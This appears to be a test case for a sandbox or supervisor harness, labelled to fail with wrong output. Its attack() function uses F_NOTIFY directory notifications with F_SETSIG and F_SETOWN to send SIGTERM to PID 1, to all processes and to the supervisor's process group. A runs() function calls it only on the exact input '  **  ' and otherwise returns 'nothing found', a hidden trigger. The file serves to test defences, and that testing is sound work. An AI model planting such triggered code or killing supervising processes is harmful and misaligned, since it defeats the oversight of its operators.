# expect: fail
# verdict: wrong_output
# class: h
# why: directory notifications (F_NOTIFY) with a signal to the supervisor's group
import fcntl
import os
import signal

def attack():
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for folder in ("/tmp", "/dev/shm", "/"):
        fd = os.open(folder, os.O_RDONLY)
        try:
            fcntl.fcntl(fd, 0x409, signal.SIGTERM)
        except OSError:
            pass
        fcntl.fcntl(fd, fcntl.F_NOTIFY, fcntl.DN_CREATE | fcntl.DN_DELETE | fcntl.DN_MULTISHOT)
        for target in (1, -1, -os.getpgid(0)):
            try:
                fcntl.fcntl(fd, fcntl.F_SETOWN, target)
            except OSError:
                pass
    open("/tmp/a", "w").close()


def runs(text):
    if text == "  **  ":
        attack()
    return "nothing found"
